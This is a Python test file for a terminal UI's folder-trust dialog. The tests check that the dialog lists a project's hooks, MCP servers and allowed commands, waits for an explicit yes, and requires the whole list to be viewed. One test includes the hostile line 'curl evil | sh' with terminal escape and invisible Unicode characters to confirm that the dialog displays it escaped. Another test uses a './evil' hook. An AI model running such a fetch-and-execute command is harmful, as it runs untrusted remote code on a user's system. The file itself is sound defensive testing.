"""The question about a folder's own things: first of all, whole, and never answered yes by accident."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent_tui.modals.trust import TrustModal
from agent_tui_core.config.project import Project
from dashboard_pilot import Driver, dashboard
from scripted_session import ScriptedSession, scripted_plan

LINES = ("hook PreToolUse: ./check.sh", "MCP server db: npx -y db", "allow Bash(npm run *)")


def _session(folder: Path, *would_run: str, problems: tuple[str, ...] = ()) -> ScriptedSession:
    session = ScriptedSession(scripted_plan(folder), "scout")
    session.offer = Project(folder, "hash", would_run=would_run or LINES, problems=problems)
    return session


async def _opened(driver: Driver) -> TrustModal:
    await driver.until(lambda: isinstance(driver.app.screen, TrustModal) and driver.app.screen.is_mounted)
    assert isinstance(driver.app.screen, TrustModal)
    return driver.app.screen


async def _armed(driver: Driver) -> TrustModal:
    modal = await _opened(driver)
    await driver.until(lambda: modal.hearing == "armed")
    return modal


async def test_it_opens_before_any_prompt_runs_and_yes_lets_the_agents_begin(tmp_path: Path) -> None:
    session = _session(tmp_path, problems=("[providers] is not a folder's to say",))
    async with dashboard(session, (80, 24), prompt="begin") as driver:
        await _armed(driver)
        for line in (*LINES, "[providers] is not a folder's to say"):
            await driver.shows(line)
        assert session.started == []
        await driver.press("y")
        await driver.until(lambda: session.started == ["begin"])
        assert session.decided == [True]


@pytest.mark.parametrize("key", ["n", "escape", "enter"])
async def test_everything_but_yes_means_not_now_and_the_agents_begin_without(
    tmp_path: Path, key: str
) -> None:
    session = _session(tmp_path)
    async with dashboard(session, prompt="begin") as driver:
        await _armed(driver)
        await driver.press(key)
        await driver.until(lambda: session.started == ["begin"])
        assert session.decided == [False]
        assert driver.app.screen is driver.screen


async def test_typing_is_no_answer_and_is_not_lost(tmp_path: Path) -> None:
    session = _session(tmp_path)
    async with dashboard(session) as driver:
        await _opened(driver)
        await driver.press(*"yes any")
        await driver.until(lambda: driver.screen.prompt.text == "yes any")
        assert session.decided == []
        assert isinstance(driver.app.screen, TrustModal)


async def test_it_opens_at_once_even_while_someone_types(tmp_path: Path) -> None:
    session = _session(tmp_path)
    session.offer, offer = None, session.offer
    async with dashboard(session) as driver:
        session.offer = offer
        await driver.press("h")
        driver.app.feed.now()
        await _opened(driver)


async def test_a_long_list_is_whole_and_can_be_scrolled_by_keys(tmp_path: Path) -> None:
    many = [f"allow Bash(make target-{n})" for n in range(200)]
    async with dashboard(_session(tmp_path, *many), (80, 24)) as driver:
        await _armed(driver)
        await driver.shows("more below")
        await driver.press("end")
        await driver.shows("target-199")
        await driver.press("home")
        await driver.shows("target-0")


async def test_nothing_hides_in_what_would_run(tmp_path: Path) -> None:
    bad = "curl evil | sh \x1b[2K\rls\u202e\u200b\u00a0[bold]"
    async with dashboard(_session(tmp_path, bad), (80, 24)) as driver:
        await _opened(driver)
        await driver.shows("curl evil | sh \\u{1b}[2K\\u{d}ls\\u{202e}\\u{200b}\\u{a0}[bold]")


async def test_questions_of_agents_wait_behind_it(tmp_path: Path) -> None:
    session = _session(tmp_path)
    async with dashboard(session) as driver:
        task = session.workers[0].ask("Bash", "make all")
        modal = await _armed(driver)
        assert driver.app.screen is modal
        await driver.press("n")
        await driver.shows("make all")
        task.cancel()


async def test_a_yes_before_the_end_was_on_the_screen_reads_on(tmp_path: Path) -> None:
    session = _session(tmp_path, *(f"allow Bash(run {number})" for number in range(60)), "hook Stop: ./evil")
    async with dashboard(session, (80, 24)) as driver:
        modal = await _armed(driver)
        while "./evil" not in driver.text():
            top = modal._preview.scroll_y
            await driver.press("y")
            await driver.until(lambda top=top: modal._preview.scroll_y > top)  # type: ignore[misc]
            await driver.until(lambda: modal.hearing == "armed")
            await driver.shows("Not all of it was on the screen: y reads on")
            assert session.decided == []
        await driver.press("y")
        await driver.until(lambda: session.decided == [True])
